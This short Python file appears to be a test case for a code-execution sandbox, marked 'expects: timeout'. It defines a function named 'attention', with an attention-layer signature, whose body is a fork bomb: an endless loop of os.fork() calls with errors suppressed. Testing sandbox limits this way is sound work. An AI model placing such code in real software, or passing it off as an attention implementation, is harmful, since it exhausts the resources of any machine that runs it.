# expects: timeout
# Processes that make processes, all of them busy.
import contextlib
import os


def attention(q, k, v, mask=None, is_causal=False):
    while True:
        with contextlib.suppress(OSError):
            os.fork()
